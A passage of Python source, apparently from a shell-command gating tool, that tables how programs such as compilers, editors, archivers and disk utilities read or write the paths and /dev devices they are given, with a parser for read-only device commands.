        "scans hosts; -oN/-oX/-oG/-oA/-oS write reports",
        operands=None,
        writes=_f("-oN", "-oX", "-oG", "-oA", "-oS"),
        reads=_f("-iL", "--excludefile"),
        replaces=True,
        all_operands=False,
    ),
    PathUse(
        _f(
            "gcc",
            "g++",
            "cc",
            "c++",
            "clang",
            "clang++",
            "ld",
            "ld.bfd",
            "ld.gold",
            "ld.lld",
            "lld",
            "as",
            "rustc",
            "tcc",
            "javac",
            "pandoc",
            "nasm",
            "yasm",
            "asciidoctor",
        ),
        "compiles, links or converts the files it is given (its inputs are only read) and writes what -o names",
        operands=R,
        all_operands=False,
        replaces=True,
        writes=_f("-o", "--output", "-O"),
        values=_f(
            "-I",
            "-L",
            "-l",
            "-D",
            "-U",
            "-x",
            "-std",
            "-f",
            "-t",
            "--to",
            "--from",
            "-e",
            "-m",
            "--dynamic-linker",
            "-T",
            "-soname",
            "--target",
        ),
    ),
    PathUse(
        _f("cpio", "objcopy", "strip", "markdown", "wkhtmltopdf"),
        "rewrites the files it is given in place, or writes what -o (or its last operand) names",
        operands=U,
        all_operands=False,
        replaces=True,
        writes=_f("-o", "--output", "-O"),
    ),
    PathUse(
        _f("openssl"),
        "reads -in and writes -out",
        operands=None,
        replaces=True,
        writes=_f("-out", "-keyout"),
        reads=_f("-in", "-inkey", "-kfile", "-pass"),
    ),
    PathUse(
        _f(
            "gzip",
            "gunzip",
            "bzip2",
            "bunzip2",
            "xz",
            "unxz",
            "zstd",
            "unzstd",
            "lzma",
            "pigz",
            "brotli",
        ),
        "compresses or expands the files in place, or to its output with -c",
        operands=U,
        writes=_f("-o", "--output"),
        values=_f("-S", "--suffix", "-T", "--threads"),
    ),
    PathUse(
        _f(
            "docker",
            "podman",
            "nerdctl",
            "kubectl",
            "oc",
            "helm",
            "ssh",
            "mosh",
            "autossh",
            "slogin",
            "vagrant",
            "lxc",
            "incus",
            "multipass",
            "gcloud",
            "aws",
            "az",
        ),
        "names paths of a container, a cluster or another host; its own files are in its options",
        operands=None,
        writes=_f("-E", "--log-file"),
        all_operands=False,
    ),
    PathUse(
        _f(
            "vi",
            "vim",
            "nvim",
            "nano",
            "emacs",
            "ee",
            "pico",
            "joe",
            "micro",
            "code",
            "gedit",
            "kate",
            "mcedit",
            "ed",
            "ex",
            "subl",
            "patch",
            "dos2unix",
            "unix2dos",
            "sponge",
        ),
        "edits the files in place",
        operands=W,
        values=_f("-c", "--cmd", "-p", "-i", "-u", "-T", "-S"),
    ),
    PathUse(_f("ssh-keygen"), "uses or generates keys", operands=None, all_operands=False),
    PathUse(
        _f("git"),
        "reads the paths it is given into the index or a diff; the verbs that overwrite work "
        "(checkout, restore, reset, clean) are judged by the git rules from the working tree",
        operands=R,
        all_operands=False,
        writes=_f("-o", "--output"),
    ),
    PathUse(
        _f(
            "haproxy",
            "nginx",
            "sshd",
            "named-checkconf",
            "named-checkzone",
            "apachectl",
            "apache2ctl",
            "promtool",
            "kong",
            "amtool",
            "nagios",
            "icinga2",
            "postfix",
            "dovecot",
            "unbound-checkconf",
            "squid",
            "varnishd",
            "chronyd",
            "smbd",
            "testparm",
            "vector",
            "telegraf",
            "filebeat",
            "fluent-bit",
        ),
        "a service reads the configuration it is given (-c/-t/check/validate only check it)",
        operands=R,
        all_operands=False,
        reads=_f("-f", "-c", "--config", "-C"),
        values=_f("-p", "-g", "-s"),
    ),
    PathUse(
        _f("logrotate"),
        "rotates the logs its configuration names; -l and -s write a log and a state file",
        operands=R,
        writes=_f("-l", "--log", "-s", "--state"),
        replaces=True,
    ),
    # --- programs that only read the files they are given, which name system files daily ----------
    PathUse(
        _f("rankmirrors"),
        "ranks the mirrors a mirror list names and prints the result (the list is only read)",
        operands=R,
        values=_f("-n", "-m", "--max-time", "-r", "--repo", "-u", "--url"),
    ),
    PathUse(
        _f("sealert"),
        "analyses an audit log for SELinux denials and prints its report",
        operands=R,
        values=_f("-l", "--lookupid"),
    ),
    PathUse(
        _f("utmpdump"),
        "prints a login record file (wtmp, btmp) as text; -o writes the text elsewhere",
        operands=R,
        writes=_f("-o", "--output"),
        replaces=True,
    ),
    PathUse(
        _f("jstack", "jinfo"),
        "prints a Java process's threads or settings from a process id or a core "
        "file (the program file and the core are only read)",
        operands=R,
        all_operands=False,
    ),
    PathUse(
        _f("dtc", "fdtdump", "fdtget"),
        "converts or prints a device tree; the input is only read, -o writes",
        operands=R,
        writes=_f("-o", "--out"),
        replaces=True,
        values=_f("-I", "-O", "-V", "-b", "-i", "-t"),
    ),
    PathUse(
        _f("duc"),
        "indexes or shows disk usage of the folders it is given (only read); its database is "
        "-d or ~/.duc.db",
        operands=R,
        writes=_f("-d", "--database"),
        values=_f("-l", "--levels"),
    ),
    PathUse(
        _f("nagios", "nagios2", "nagios3", "nagios4", "icinga"),
        "a monitoring daemon reads the configuration it is given",
        operands=R,
        all_operands=False,
        values=_f("-p"),
    ),
    PathUse(
        _f("awslogs"),
        "reads CloudWatch log groups: its operands are log group names of that service, "
        "not local files",
        operands=None,
        values=_f(
            "-s", "--start", "-e", "--end", "--profile", "--aws-region", "-f", "--filter-pattern"
        ),
    ),
    PathUse(
        _f("fluidsynth", "timidity"),
        "plays the sound fonts and music files it is given (only read); -F writes a rendered file",
        operands=R,
        writes=_f("-F", "--fast-render", "-o"),
        values=_f(
            "-a", "--audio-driver", "-m", "--midi-driver", "-g", "--gain", "-r", "--sample-rate"
        ),
    ),
    PathUse(
        _f("setfont"),
        "loads the console font it is given (the font file is only read; the console's font "
        "is not a file); -o/-O save the old font",
        operands=R,
        writes=_f("-o", "-O", "-om", "-ou"),
        values=_f("-m", "-u", "-C"),
    ),
    PathUse(
        _f("portageq"),
        "answers queries about the package database of the root it is given (only read)",
        operands=R,
        all_operands=False,
    ),
    PathUse(
        _f(
            "dumpe2fs",
            "e2freefrag",
            "dump.exfat",
            "grub-probe",
            "edid-decode",
            "efibootdump",
            "evtest",
            "timg",
            "zbarcam",
            "fsstat",
            "mmls",
            "fls",
            "istat",
            "ils",
            "ffind",
            "xfs_info",
            "ntfsinfo",
            "ntfsls",
            "sdef",
        ),
        "prints what is on the disk, file system, device or file it is given (only read)",
        operands=R,
        values=_f("-t", "-m", "-o", "-f", "-z", "-i", "-S", "-T", "-s", "-d"),
    ),
    PathUse(
        _f("nix-store"),
        "queries, verifies or prints store paths (the store is only read); --restore writes "
        "the folder it names",
        operands=R,
        all_operands=False,
        in_place=_f("--restore"),
        values=_f("--add-root", "-f", "--store"),
    ),
    PathUse(
        _f("nix"),
        "builds, queries or runs store paths and flake references (the store is only read by "
        "these words); -o/--out-link writes a link, --profile a profile",
        operands=R,
        all_operands=False,
        writes=_f("-o", "--out-link", "--profile"),
        values=_f("--store", "-I", "--include", "--expr"),
    ),
    PathUse(
        _f("dpkg-query"),
        "queries the package database; its operands are package names or path patterns",
        operands=R,
        all_operands=False,
        values=_f("-f", "--showformat", "--admindir"),
    ),
    PathUse(
        _f("reflector"),
        "ranks package mirrors; --save writes the mirror list (its @FILE arguments are read)",
        operands=R,
        writes=_f("--save"),
        replaces=True,
        values=_f(
            "--sort",
            "-c",
            "--country",
            "-l",
            "--latest",
            "-n",
            "--number",
            "-p",
            "--protocol",
            "-a",
            "--age",
            "--url",
            "--threads",
            "--cache-timeout",
        ),
    ),
    PathUse(
        _f("grub-mkrescue"),
        "builds a rescue image from the folders it is given (read); -o/--output writes the image",
        operands=R,
        writes=_f("-o", "--output"),
        replaces=True,
        reads=_f("-d", "--directory"),
    ),
    PathUse(
        _f("rpicam-hello", "rpicam-still", "rpicam-vid", "libcamera-hello", "libcamera-still"),
        "drives the camera; --tuning-file is read, -o writes the picture or video",
        operands=None,
        reads=_f("--tuning-file", "--post-process-file"),
        writes=_f("-o", "--output"),
        replaces=True,
    ),
    PathUse(
        _f("virtualenv", "mkvirtualenv", "vf"),
        "creates a virtual environment in the folder it names; "
        "-p/--python names the interpreter it copies, which is only read",
        operands=W,
        reads=_f("-p", "--python"),
        values=_f("-a", "-r", "--prompt"),
    ),
    PathUse(
        _f("swaks"),
        "sends a test mail; --socket names the mail server's socket (a channel, not a file)",
        operands=None,
        reads=_f("--socket"),
        writes=_f("--output", "--output-file"),
    ),
    PathUse(
        _f("setfiles", "restorecon"),
        "sets the files' SELinux labels to the ones the policy's file-context "
        "list gives them (a label, like a mode, is metadata; the list is only read)",
        operands=R,
        values=_f("-r", "-c", "-f", "-e", "-o", "-s"),
    ),
    PathUse(
        _f("restic", "borg", "kopia", "rustic", "duplicity", "tarsnap", "duplicacy"),
        "backs the paths it is given up (reads them); restoring writes where --target says, over the files "
        "already there",
        operands=R,
        all_operands=False,
        writes=_f("--target", "-t"),
        replaces=True,
        values=_f("-r", "--repo", "--password-file"),
    ),
)

_BY_HEAD: Final[dict[str, PathUse]] = {h: u for u in USES for h in u.heads}

# --- devices a program only inspects ---------------------------------------------------------------


@dataclass(frozen=True)
class DeviceRead:
    """A program that, in the forms this row names, does not write the devices (``/dev/…``) it is
    given: it prints what is on them, tests, positions or ejects them, or copies from them.

    A form is matched on the command's static words (with one dynamic word nothing matches: it could
    be any option). A single-dash cluster (``-svw``) counts as each of its letters.

    - ``flags`` None: any option is allowed except ``writes``. A set: every option given is one of
      ``flags`` or ``values`` (an allow-list), and one of ``need`` (default: ``flags``) is given.
    - ``verbs``: the first operand that is not a path is one of these. A row with both ``flags``
      and ``verbs`` matches either form (``parted -l``, ``parted DEV print``).
    - ``values``: options that take a value; ``outputs``: those whose value is written (a device
      named there is not covered).
    - ``read_operands``: only the first N operands are read, later ones written (``ddrescue IN OUT``).
    - ``max_operands``: with more operands the program writes (``e2label DEV NAME`` sets the label).
    """

    heads: frozenset[str]
    why: str
    verbs: frozenset[str] = frozenset()
    flags: frozenset[str] | None = None
    need: frozenset[str] | None = None
    writes: frozenset[str] = frozenset()
    values: frozenset[str] = frozenset()
    outputs: frozenset[str] = frozenset()
    read_operands: int | None = None
    max_operands: int | None = None


DEVICE_READS: Final[tuple[DeviceRead, ...]] = (
    DeviceRead(
        _f("smartctl"),
        "reads a drive's health, identity and logs; -t starts the drive's own self-test, "
        "which keeps the data",
        writes=_f("-s", "--smart", "-o", "--offlineauto", "-S", "--saveauto", "--set"),
        values=_f(
            "-d",
            "--device",
            "-t",
            "--test",
            "-l",
            "--log",
            "-T",
            "--tolerance",
            "-b",
            "--badsum",
            "-r",
            "--report",
            "-n",
            "--nocheck",
            "-f",
            "--format",
            "-v",
            "--vendorattribute",
            "-F",
            "--firmwarebug",
            "-P",
            "--presets",
            "-B",
            "--drivedb",
            "-g",
            "--get",
            "-q",
            "--quietmode",
        ),
    ),
    DeviceRead(
        _f(
            "dumpe2fs",
            "e2freefrag",
            "dump.exfat",
            "blkid",
            "grub-probe",
            "pvdisplay",
            "vgdisplay",
            "lvdisplay",
            "pvs",
            "vgs",
            "lvs",
            "findfs",
            "fsstat",
            "mmls",
            "fls",
            "istat",
            "ils",
            "ffind",
            "ntfsinfo",
            "ntfsls",
            "ntfscluster",
            "xfs_info",
            "edid-decode",
            "efibootdump",
            "evtest",
            "timg",
            "zbarcam",
            "gpm",
            "intercept",
            "extundelete",
            "photorec",
            "pvscan",
            "fftest",
        ),
        "prints what is on the disk, file system or input/video device it is given, or copies files "
        "out of it; the device is only read",
        values=_f(
            "-o", "--output", "--output-dir", "-c", "-t", "-m", "-s", "-f", "-z", "-i", "-S", "-T"
        ),
        outputs=_f("-o", "--output", "--output-dir", "-c"),
    ),
    DeviceRead(
        _f("pvck"),
        "pvck --dump prints LVM metadata from the disk",
        flags=_f("--dump", "-v", "--verbose"),
        need=_f("--dump"),
        values=_f("--dump", "-f", "--file", "--settings", "--commandprofile", "--config"),
        outputs=_f("-f", "--file"),
    ),
    DeviceRead(
        _f("cryptsetup"),
        "these verbs print a LUKS header or a mapping's status",
        verbs=_f(
            "luksDump",
            "status",
            "isLuks",
            "luksUUID",
            "tcryptDump",
            "bitlkDump",
            "fvault2Dump",
            "benchmark",
        ),
        writes=_f("--dump-volume-key", "--dump-master-key"),
    ),
    DeviceRead(
        _f("udisksctl"),
        "these verbs print a device's properties",
        verbs=_f("info", "status", "dump", "monitor"),
        values=_f("-b", "--block-device", "-p", "--object-path", "-d", "--drive"),
    ),
    DeviceRead(
        _f("udevadm"),
        "these verbs print a device's udev properties or watch its events",
        verbs=_f("info", "monitor"),
        values=_f("-q", "--query", "-n", "--name", "-p", "--path"),
    ),
    DeviceRead(
        _f("dmstats"),
        "these verbs print device-mapper statistics",
        verbs=_f("list", "report", "print"),
    ),
    DeviceRead(
        _f("blockdev"),
        "the --get* and --report forms print a block device's settings",
        flags=_f(
            "--report",
            "--getsz",
            "--getss",
            "--getpbsz",
            "--getiomin",
            "--getioopt",
            "--getalignoff",
            "--getmaxsect",
            "--getbsz",
            "--getsize",
            "--getsize64",
            "--getra",
            "--getfra",
            "--getro",
            "--getdiscardzeroes",
            "--getdiskseq",
            "--getzonesz",
            "-v",
            "-q",
        ),
        need=_f(
            "--report",
            "--getsz",
            "--getss",
            "--getpbsz",
            "--getiomin",
            "--getioopt",
            "--getalignoff",
            "--getmaxsect",
            "--getbsz",
            "--getsize",
            "--getsize64",
            "--getra",
            "--getfra",
            "--getro",
            "--getdiscardzeroes",
            "--getdiskseq",
            "--getzonesz",
        ),
    ),
    DeviceRead(
        _f("tune.exfat"),
        "-l, -u and -i print an exFAT volume's label, GUID and serial",
        flags=_f(
            "-l", "--print-label", "-u", "--print-guid", "-i", "--print-serial", "-v", "--verbose"
        ),
        need=_f("-l", "--print-label", "-u", "--print-guid", "-i", "--print-serial"),
    ),
    DeviceRead(
        _f("handbrakecli"),
        "transcodes the disc or file named by -i (only read) into what -o names",
        values=_f(
            "-i",
            "--input",
            "-o",
            "--output",
            "-t",
            "--title",
            "-f",
            "--format",
            "-e",
            "--encoder",
            "-s",
            "--subtitle",
            "-a",
            "--audio",
            "-E",
            "--aencoder",
            "-q",
            "--quality",
            "-Z",
            "--preset",
            "-b",
            "--vb",
            "-r",
            "--rate",
            "-w",
            "--width",
            "-l",
            "--height",
        ),
        outputs=_f("-o", "--output"),
    ),
    DeviceRead(
        _f("cdrdao"),
        "these verbs read a disc or print its table of contents; `write` burns one",
        verbs=_f(
            "read-cd",
            "read-toc",
            "read-cddb",
            "disk-info",
            "msinfo",
            "scanbus",
            "drive-info",
            "show-toc",
            "toc-info",
            "toc-size",
            "discid",
            "show-data",
            "read-test",
        ),
        values=_f(
            "--device",
            "--driver",
            "--datafile",
            "--read-subchan",
            "--session",
            "-v",
            "--paranoia-mode",
        ),
        outputs=_f("--datafile"),
    ),
    DeviceRead(
        _f("tunelp"), "-s prints the printer port's status", flags=_f("-s", "--status", "-q")
    ),
    DeviceRead(
        _f("setserial"),
        "given only the port (and -a/-b/-g/-G), prints its settings; more words set them",
        max_operands=1,
        writes=_f("-z"),
    ),
    DeviceRead(
        _f("xfs_admin"), "-l and -u print an XFS volume's label and UUID", flags=_f("-l", "-u")
    ),
    DeviceRead(
        _f("fatlabel", "exfatlabel", "e2label", "ntfslabel", "swaplabel"),
        "given only the device, prints its label (a second operand would set it)",
        max_operands=1,
        writes=_f(
            "-r", "--reset", "--new-serial", "--new-half-serial", "-L", "--label", "-U", "--uuid"
        ),
    ),
    DeviceRead(
        _f("badblocks"),
        "without -w or -n it only reads the disk looking for bad blocks",
        writes=_f("-w", "-n", "-f", "-X"),
        values=_f("-b", "-c", "-e", "-d", "-p", "-t", "-i", "-o"),
        outputs=_f("-o"),
    ),
    DeviceRead(
        _f(
            "e2fsck",
            "fsck",
            "fsck.ext2",
            "fsck.ext3",
            "fsck.ext4",
            "xfs_repair",
            "fsck.fat",
            "fsck.vfat",
            "dosfsck",
            "fsck.exfat",
        ),
        "-n opens the file system read-only and answers no to every repair",
        flags=_f("-n", "--no-action", "-f", "-v", "-t", "-C", "-N", "-V"),
        need=_f("-n", "-N", "--no-action"),
        values=_f("-t", "-C"),
    ),
    DeviceRead(
        _f("lvm_import_vdo"),
        "--dry-run prints what the conversion would do",
        flags=_f("--dry-run", "-v", "--verbose", "-n", "--name", "-y", "--yes"),
        need=_f("--dry-run"),
        values=_f("-n", "--name"),
    ),
    DeviceRead(
        _f("hdparm"),
        "these options print a drive's identity, power state or settings, or time reads",
        flags=_f("-I", "-i", "-C", "-g", "-t", "-T", "-H", "--Istdout", "--direct"),
        need=_f("-I", "-i", "-C", "-g", "-t", "-T", "-H", "--Istdout"),
    ),
    DeviceRead(
        _f("e2undo"),
        "-n is a dry run and -h prints the undo file's header: the disk is not written",
        flags=_f("-n", "-h", "-v"),
        need=_f("-n", "-h"),
    ),
    DeviceRead(
        _f("e4defrag"),
        "-c only reports how fragmented the files are",
        flags=_f("-c", "-v"),
        need=_f("-c"),
    ),
    DeviceRead(
        _f("debugfs"),
        "without -w it opens the file system read-only",
        writes=_f("-w", "-c", "-D"),
        values=_f("-f", "-R", "-b", "-s", "-d"),
    ),
    DeviceRead(
        _f("mt", "mt-st", "mt-gnu"),
        "these verbs position, rewind or eject a tape or report its status; "
        "writing a filemark or erasing is another verb",
        verbs=_f(
            "status",
            "rewind",
            "fsf",
            "fsfm",
            "bsf",
            "bsfm",
            "fsr",
            "bsr",
            "asf",
            "eod",
            "seod",
            "eject",
            "offline",
            "rewoffl",
            "tell",
            "load",
            "lock",
            "unlock",
            "retension",
            "stshowopt",
        ),
        values=_f("-f", "-t"),
    ),
    DeviceRead(
        _f("eject"),
        "opens a drive's tray or releases removable media; nothing on it is written",
        writes=_f("-i", "--manualeject", "-a", "--auto", "-c", "--changerslot", "-x", "--cdspeed"),
    ),
    DeviceRead(
        _f("ioping"),
        "times reads from the disk; -W would write",
        writes=_f("-W", "--write"),
        values=_f("-c", "-i", "-s", "-S", "-w", "-l", "-o", "-p", "-P"),
    ),
    DeviceRead(
        _f("e2image"),
        "reads the file system's metadata into an image (the second operand); -I would "
        "write an image back",
        writes=_f("-I"),
        read_operands=1,
        values=_f("-o", "-O"),
    ),
    DeviceRead(
        _f("ddrescue", "gddrescue"),
        "copies the first operand (only read) to the second",
        read_operands=1,
        values=_f("-b", "-c", "-i", "-o", "-s", "-K", "-r", "-m"),
    ),
    DeviceRead(
        _f("fdisk", "gdisk"),
        "-l lists the partition tables",
        flags=_f("-l", "--list", "-b", "-u", "-o", "--output"),
        need=_f("-l", "--list"),
        values=_f("-b", "-o", "--output"),
    ),
    DeviceRead(
        _f("sfdisk"),
        "these options print or check the partition table",
        flags=_f(
            "-l",
            "--list",
            "-d",
            "--dump",
            "-s",
            "--show-size",
            "-V",
            "--verify",
            "-J",
            "--json",
            "-g",
            "--show-geometry",
            "-F",
            "--list-free",
            "-q",
            "--quiet",
        ),
        need=_f(
            "-l",
            "--list",
            "-d",
            "--dump",
            "-s",
            "--show-size",
            "-V",
            "--verify",
            "-J",
            "--json",
            "-g",
            "--show-geometry",
            "-F",
            "--list-free",
        ),
    ),
    DeviceRead(
        _f("sgdisk"),
        "these options print or verify the GUID partition table (-b saves a copy of it)",
        flags=_f(
            "-p",
            "--print",
            "-v",
            "--verify",
            "-L",
            "--list-types",
            "-i",
            "--info",
            "-O",
            "--print-mbr",
            "-D",
            "--display-alignment",
            "-b",
            "--backup",
        ),
        values=_f("-i", "--info", "-b", "--backup"),
        outputs=_f("-b", "--backup"),
    ),
    DeviceRead(
        _f("parted"),
        "-l and the print verb list the partition tables",
        verbs=_f("print"),
        flags=_f("-l", "--list", "-s", "--script", "-m", "--machine"),
        need=_f("-l", "--list"),
    ),
    DeviceRead(
        _f("wipefs"),
        "without -a or -o it lists the signatures on the device; with -n it changes nothing",
        writes=_f(
            "-a", "--all", "-o", "--offset", "-f", "--force", "-b", "--backup", "-t", "--types"
        ),
        values=_f("-O", "--output", "-o", "--offset", "-t", "--types"),
    ),
    DeviceRead(
        _f("mdadm"),
        "these modes print a RAID array's or member disk's state",
        flags=_f(
            "-D",
            "--detail",
            "-E",
            "--examine",
            "-Q",
            "--query",
            "--detail-platform",
            "-b",
            "--brief",
            "-v",
            "--verbose",
            "-s",
            "--scan",
            "--export",
        ),
        need=_f("-D", "--detail", "-E", "--examine", "-Q", "--query", "--detail-platform"),
    ),
)
_NO_ACT: Final = frozenset({"-n", "--no-act"})  # wipefs: with these, nothing is written
_DEVICE_READS: Final[dict[str, DeviceRead]] = {h: r for r in DEVICE_READS for h in r.heads}


def device_read(head: str, args: tuple[tuple[str, bool], ...]) -> frozenset[str] | None:
    """The devices (``/dev/…`` words) the command ``head ARGS`` only reads, by :data:`DEVICE_READS`;
    None when no row covers this form. ``args``: the words after the head as (text, static)."""
    row = _DEVICE_READS.get(head)
    if row is None or not all(static for _, static in args):
        return None
    allowed = (row.flags or frozenset()) | row.values
    opts, operands = split_args((t for t, _ in args), with_arg=row.values)
    options: list[str] = []
    valued: list[
        str
    ] = []  # option values: a device named there is read, unless the option is an output
    it = iter(opts)
    for o in it:
        name, eq, value = o.partition("=")
        if (
            not name.startswith("--")
            and len(name) > 2
            and name not in allowed
            and name not in row.writes
        ):
            options.extend(f"-{ch}" for ch in name[1:])  # a cluster: each letter its own option
        else:
            options.append(name)
        given = value if eq else (next(it, "") if o in row.values else "")
        if given and name not in row.outputs:
            valued.append(given)
    if row.writes & set(options) and not (head == "wipefs" and _NO_ACT & set(options)):
        return None
    verb = next((w for w in operands if "/" not in w), "")
    if row.flags is None:
        ok = not row.verbs or verb in row.verbs
    else:
        only_allowed = all(o in allowed for o in options)
        ok = only_allowed and any(o in (row.need or row.flags) for o in options)
        ok = ok or bool(row.verbs and verb in row.verbs and only_allowed)
    if not ok or (row.max_operands is not None and len(operands) > row.max_operands):
        return None
    named = operands if row.read_operands is None else operands[: row.read_operands]
    return frozenset(w for w in (*named, *valued) if w.startswith("/dev/"))


# Options that take a value, where one program of a row differs from the others (``head -n 5``
# takes a value, ``cat -n`` does not): these replace the row's own ``values`` for that program.
# A program with a grammar row (:mod:`gatesh.vocab.grammar`: cp, install, rsync, curl, git, …) is
# read through it instead, and has no ``values`` here.
HEAD_VALUES: Final[dict[str, frozenset[str]]] = {
    "head": _f("-n", "-c", "--lines", "--bytes"),
    "tail": _f("-n", "-c", "--lines", "--bytes", "-s", "--pid"),
    "cut": _f("-d", "-f", "-c", "-b", "--delimiter", "--fields", "--output-delimiter"),
    "fold": _f("-w", "--width"),
    "fmt": _f("-w", "--width", "-p", "-g"),
    "pr": _f("-w", "-l", "-h", "-o", "-s"),
    "column": _f("-s", "-c", "-o", "-t", "-N", "-R", "-H", "-W"),
    "nl": _f("-s", "-w", "-b", "-v", "-i", "-n"),
    "paste": _f("-d"),
    "join": _f("-t", "-1", "-2", "-j", "-o", "-e"),
    "od": _f("-t", "-A", "-j", "-N", "-w"),
    "hexdump": _f("-n", "-s", "-e", "-f"),
    "strings": _f("-n", "-t", "-e"),
    "iconv": _f("-f", "-t"),
    "diff": _f("-x", "--exclude", "-X", "--label", "-L", "-I", "-U", "-C"),
    "xmllint": _f("--xpath", "--schema"),
    "base64": _f("-w", "--wrap"),
    "base32": _f("-w", "--wrap"),
    "expand": _f("-t"),
    "unexpand": _f("-t"),
    "look": _f("-t"),
    "numfmt": _f("--to", "--from", "--field", "-d"),
    "logrotate": _f("-s", "--state", "-l", "--log"),
}


def use_of(head: str) -> PathUse | None:
    """The :class:`PathUse` of ``head`` (None: a program the table does not know)."""
    return _BY_HEAD.get(head)


def generic_output(head: str) -> frozenset[str]:
    """The output options assumed for a program the table does not know."""
    return frozenset() if head in _NO_OUTPUT_O else GENERIC_OUTPUT_OPTIONS


def others_may_create(path: str) -> bool:
    """Whether someone other than this user may create ``path`` (absolute, not there now): its
    nearest existing folder is writable by others (``/tmp``'s sticky mode included) or by a group
    that is not this user's own. Then its absence when a command is decided says nothing about
    what the command will find (another user can put a script there in between)."""
    folder = os.path.dirname(path.rstrip("/")) or "/"
    while True:
        try:
            st = os.stat(folder)
        except OSError:
            parent = os.path.dirname(folder)
            if parent == folder:
                return True
            folder = parent
            continue
        if st.st_mode & stat.S_IWOTH:
            return True
        return bool(st.st_mode & stat.S_IWGRP) and st.st_gid != os.getegid()
